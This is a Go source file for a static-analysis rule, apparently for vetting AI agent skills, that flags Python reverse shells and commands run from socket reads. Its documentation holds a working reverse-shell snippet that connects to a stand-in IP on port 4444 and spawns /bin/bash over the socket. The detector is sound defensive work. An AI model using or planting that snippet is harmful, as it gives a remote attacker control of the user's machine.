package rules

import (
	"strings"

	"github.com/skillvet/skillvet/analyzer"
	"github.com/skillvet/skillvet/facts/pyfacts"
	"github.com/skillvet/skillvet/parse/python"
)

// PythonReverseShell reports sockets wired to a shell and commands run
// from socket reads.
var PythonReverseShell = register(&analyzer.Rule{
	ID:       "SV153",
	Name:     "python-reverse-shell",
	Title:    "Python reverse shell or socket command loop",
	Severity: Critical,
	Category: analyzer.CatRemoteExec,
	Tags:     []string{"security", "python", "CWE-506", "CWE-78"},
	Inputs:   analyzer.InPython,
	Doc: `A Python script hands a shell to whoever is at the other end of a socket:

- the classic reverse shell — ` + "`socket.socket()`" + ` + ` + "`connect`" + `, ` + "`os.dup2(s.fileno(), 0/1/2)`" + `,
  then ` + "`pty.spawn(\"/bin/sh\")`" + ` or ` + "`subprocess.call([\"/bin/sh\", \"-i\"])`" + `;
- a shell started with its stdin/stdout/stderr set to the socket;
- a command loop — data read from a socket (` + "`recv`" + `) run as a shell command
  or process.

All are **critical**: no skill needs to give a remote host a shell on the user's machine.
Names are resolved through aliases, ` + "`__import__`" + ` and ` + "`getattr`" + ` with folded strings.

**Fix:** remove the code. Remote administration is not something a skill ships.

Bad:

` + "```python" + `
import socket, os, pty
s = socket.socket(); s.connect(("203.0.113.5", 4444))
for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
` + "```" + `

Good (a client that sends data and reads a reply, nothing more):

` + "```python" + `
import socket, json
with socket.create_connection(("localhost", 8765)) as s:
    s.sendall(json.dumps({"op": "ping"}).encode())
    reply = s.recv(4096)
` + "```",
	Run: runPythonReverseShell,
})

func fromSocket(m *python.Module, a, b int) (python.Ref, bool) {
	return m.Derives("socket", a, b, pyfacts.IsSocketRef)
}

// pyShellSpawn reports calls that start an interactive shell program.
func pyShellSpawn(m *python.Module, c *python.Call) (string, bool) {
	prog := func(a python.Arg) string {
		if s, ok := m.Fold(a.Start, a.End); ok {
			return s
		}
		if items, ok := pyfacts.ArgList(m, a); ok && len(items) > 0 {
			s, _ := m.Fold(items[0][0], items[0][1])
			return s
		}
		return ""
	}
	var cmd string
	switch {
	case c.Name == "pty.spawn" || pyfacts.SubprocessCalls[c.Name] || pyfacts.ShellStringCalls[c.Name]:
		a, ok := c.Arg(0, "args")
		if !ok {
			return "", false
		}
		cmd = prog(a)
	case pyfacts.HasPrefixAny(c.Name, pyfacts.ExecCalls...):
		a, ok := c.Positional(0)
		if !ok {
			return "", false
		}
		cmd = prog(a)
	default:
		return "", false
	}
	f := strings.Fields(cmd)
	if len(f) == 0 || !pyfacts.ShellNames[strings.ToLower(pyfacts.BaseName(f[0]))] {
		return "", false
	}
	for _, x := range f[1:] {
		if x == "-c" || x == "/c" {
			return "", false // runs one command, not an interactive shell
		}
	}
	return cmd, true
}

func runPythonReverseShell(p *analyzer.Pass) error {
	m := pyfacts.Module(p)
	if m == nil {
		return nil
	}
	var wired *python.Call // dup2 of a socket
	var spawns []*python.Call
	var spawnProg []string
	for _, c := range m.Calls {
		start, end := m.Span(c)
		if c.Name == "os.dup2" {
			if a, ok := c.Arg(0, "fd"); ok {
				if _, ok := fromSocket(m, a.Start, a.End); ok && wired == nil {
					wired = c
				}
			}
		}
		if prog, ok := pyShellSpawn(m, c); ok {
			for _, kw := range []string{"stdin", "stdout", "stderr"} {
				if a, ok := c.Kwarg(kw); ok {
					if _, ok := fromSocket(m, a.Start, a.End); ok {
						pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end,
							Message: "reverse shell: " + prog + " started with its " + kw + " connected to a socket"})
						goto next
					}
				}
			}
			spawns = append(spawns, c)
			spawnProg = append(spawnProg, prog)
		}
		// commands received over a socket
		if a, b, _, ok := pyfacts.ShellCommand(m, c); ok {
			if r, ok := pyfacts.FromSocketRecv(m, a, b); ok {
				pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end,
					Message: "remote command loop: runs shell commands received over a socket (" + r.Name + ")"})
				goto next
			}
		}
		// socket data piped into a process: p.stdin.write(s.recv(1024))
		if pyfacts.HasSuffixAny(c.Name, ".stdin.write", ".communicate") && len(c.Args) > 0 {
			if r, ok := pyfacts.FromSocketRecv(m, c.Args[0].Start, c.Args[0].End); ok {
				pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end,
					Message: "remote command loop: feeds data received over a socket (" + r.Name + ") to a process"})
				goto next
			}
		}
		if pyfacts.SubprocessCalls[c.Name] || pyfacts.HasPrefixAny(c.Name, pyfacts.ExecCalls...) {
			if a, ok := c.Arg(0, "args"); ok {
				if r, ok := pyfacts.FromSocketRecv(m, a.Start, a.End); ok {
					pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end,
						Message: "remote command loop: runs programs received over a socket (" + r.Name + ")"})
				}
			}
		}
	next:
	}
	if wired == nil {
		return nil
	}
	for k, c := range spawns {
		start, end := m.Span(c)
		pyfacts.Report(p, m, analyzer.Diagnostic{Start: start, End: end,
			Message: "reverse shell: socket duplicated onto stdin/stdout (os.dup2, line " + pyfacts.LineOf(m, wired.Head) + ") and " + spawnProg[k] + " spawned"})
	}
	return nil
}
